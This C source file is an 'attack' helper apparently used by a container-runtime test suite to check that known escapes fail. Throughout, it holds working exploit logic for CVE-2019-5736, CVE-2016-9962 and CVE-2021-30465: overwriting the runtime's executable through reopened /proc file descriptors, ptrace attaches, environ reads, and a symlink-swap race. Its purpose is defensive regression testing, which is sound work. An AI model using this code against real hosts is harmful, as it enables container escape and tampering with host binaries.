/* attack: the static attacker staged into hostile containers (busybox has no way to open a file
 * O_PATH, reopen it through /proc/self/fd or ptrace). Every verb prints one result line per
 * attempt, "ok ..." or "err ERRNO-NAME ...", so that the test reads what the kernel said.
 *
 *   attack open PATH rw|ro|path   open PATH with that mode
 *   attack ptrace PID             PTRACE_ATTACH (then detach)
 *   attack reopen FD TRIES        reopen /proc/self/fd/FD for writing (retrying while ETXTBSY,
 *                                 i.e. while another process still runs the file) and write
 *   attack swap A B STOPFILE      CVE-2021-30465: exchange A and B (a directory and a symlink)
 *                                 atomically, over and over, until STOPFILE exists
 *   attack watch STOPFILE [write] CVE-2019-5736 / CVE-2016-9962 scanner: for every process that
 *                                 appears running something else than busybox or this tool (the
 *                                 runtime entering the container), try to open its exe for
 *                                 writing, read its environ, ptrace it, and keep an O_PATH fd
 *                                 of its exe; once STOPFILE exists, reopen each for writing
 *                                 (with `write` only: point it at a copy, never a host binary).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAX_PIDS 4096

static const char *name(int e) {
    const char *n = strerrorname_np(e);
    return n ? n : "E?";
}

static int open_mode(const char *path, const char *mode) {
    int flags = !strcmp(mode, "rw") ? O_WRONLY : !strcmp(mode, "path") ? O_PATH : O_RDONLY;
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0) {
        printf("err %s open %s %s\n", name(errno), mode, path);
        return 1;
    }
    if (!strcmp(mode, "ro")) {
        char buf[64];
        ssize_t n = read(fd, buf, sizeof buf);
        if (n < 0)
            printf("err %s read %s\n", name(errno), path);
        else
            printf("ok open %s %s read %zd\n", mode, path, n);
    } else {
        printf("ok open %s %s\n", mode, path);
    }
    close(fd);
    return 0;
}

/* Seize, stop, look, let go: PTRACE_SEIZE sends no SIGSTOP and adds no SIGTRAP at execve, so
 * the tracee runs on exactly as before whatever it was doing. `look` runs while it is stopped;
 * returns -1 (errno set) when the kernel refuses the attach. */
static int with_tracee(pid_t pid, int (*look)(pid_t)) {
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return -1;
    int seen = 1, status, sig = 0;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        if ((status >> 16) != PTRACE_EVENT_STOP)
            sig = WSTOPSIG(status); /* a real signal arrived first: hand it back */
        seen = look ? look(pid) : 1;
    }
    ptrace(PTRACE_DETACH, pid, 0, sig);
    return seen;
}

static int do_ptrace(pid_t pid) {
    if (with_tracee(pid, NULL) < 0) {
        printf("err %s ptrace %d\n", name(errno), pid);
        return 1;
    }
    printf("ok ptrace %d\n", pid);
    return 0;
}

/* The write of the classic attack: the O_PATH fd names the file, a fresh open of its magic link
 * gets a writable description once no process runs it any more. */
static int reopen_and_write(int fd, int tries, const char *label) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < tries; i++) {
        int w = open(path, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            ssize_t n = write(w, "PWNED", 5);
            if (n == 5)
                printf("ok write %s\n", label);
            else
                printf("err %s write %s (opened)\n", name(errno), label);
            close(w);
            return n != 5;
        }
        if (errno != ETXTBSY || i == tries - 1) {
            printf("err %s write %s\n", name(errno), label);
            return 1;
        }
        usleep(20000);
    }
    return 1;
}

static int same_file(int fd, const struct stat *a) {
    struct stat b;
    return fstat(fd, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
}

static int still_foreign(int pid, const struct stat *self, const struct stat *busybox) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return 0;
    int foreign = !same_file(fd, self) && !same_file(fd, busybox);
    close(fd);
    return foreign;
}

static struct stat watch_self, watch_busybox;

static int still_foreign_pid(pid_t pid) {
    return still_foreign(pid, &watch_self, &watch_busybox);
}

static int watch(const char *stopfile, int write_held) {
    static char seen[MAX_PIDS];
    int held_fd[64], held_pid[64], held = 0;
    struct stat self, busybox;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &busybox);
    watch_self = self;
    watch_busybox = busybox;
    printf("ready\n");
    fflush(stdout);
    while (access(stopfile, F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= MAX_PIDS || seen[pid] || pid == getpid())
                continue;
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                if (errno == ENOENT)
                    continue; /* a kernel thread, or gone: nothing to attack */
                printf("err %s grab %d\n", name(errno), pid);
                seen[pid] = 1;
                continue;
            }
            seen[pid] = 1;
            if (same_file(fd, &self) || same_file(fd, &busybox)) {
                close(fd);
                continue;
            }
            char target[256] = "";
            ssize_t n = readlink(path, target, sizeof target - 1);
            if (n > 0)
                target[n] = 0;
            printf("ok grab %d %s\n", pid, target);
            int w = open(path, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                printf("ok openw %d %s\n", pid, target);
                close(w);
            } else {
                printf("err %s openw %d\n", name(errno), pid);
            }
            /* Each probe counts only while the process still runs the foreign exe: after its
             * execve into busybox it is the container's own, and fair game. */
            char env_path[64];
            snprintf(env_path, sizeof env_path, "/proc/%d/environ", pid);
            int envfd = open(env_path, O_RDONLY | O_CLOEXEC);
            char envbuf[256];
            ssize_t envn = envfd < 0 ? -1 : read(envfd, envbuf, sizeof envbuf);
            int env_errno = errno;
            if (envfd >= 0)
                close(envfd);
            if (envn > 0 && still_foreign(pid, &self, &busybox))
                printf("ok environ %d\n", pid);
            else if (envn < 0)
                printf("err %s environ %d\n", name(env_errno), pid);
            int traced = with_tracee(pid, still_foreign_pid);
            if (traced < 0)
                printf("err %s ptrace %d\n", name(errno), pid);
            else if (traced)
                printf("ok ptrace %d\n", pid);
            if (held < 64) {
                held_fd[held] = fd;
                held_pid[held++] = pid;
            } else {
                close(fd);
            }
            fflush(stdout);
        }
        if (d)
            closedir(d);
    }
    for (int i = 0; write_held && i < held; i++) {
        char label[32];
        snprintf(label, sizeof label, "pid%d", held_pid[i]);
        reopen_and_write(held_fd[i], 150, label);
    }
    printf("done\n");
    return 0;
}

static int swap(const char *a, const char *b, const char *stopfile) {
    long swaps = 0;
    printf("ready\n");
    while (access(stopfile, F_OK) != 0) {
        for (int i = 0; i < 1000; i++) {
            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0) {
                if (errno == ENOENT)
                    continue; /* the runtime is replacing one of them: keep going */
                printf("err %s swap\n", name(errno));
                return 1;
            }
            swaps++;
        }
    }
    /* An even number of exchanges: the directory is back where it started. */
    if (swaps % 2)
        renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    printf("done %ld\n", swaps);
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 4 && !strcmp(argv[1], "open"))
        return open_mode(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "ptrace"))
        return do_ptrace(atoi(argv[2]));
    if (argc == 4 && !strcmp(argv[1], "reopen"))
        return reopen_and_write(atoi(argv[2]), atoi(argv[3]), "self");
    if (argc == 5 && !strcmp(argv[1], "swap"))
        return swap(argv[2], argv[3], argv[4]);
    if ((argc == 3 || argc == 4) && !strcmp(argv[1], "watch"))
        return watch(argv[2], argc == 4 && !strcmp(argv[3], "write"));
    fprintf(stderr, "usage: attack open PATH rw|ro|path | ptrace PID | reopen FD TRIES"
                    " | swap A B STOP | watch STOP [write]\n");
    return 2;
}
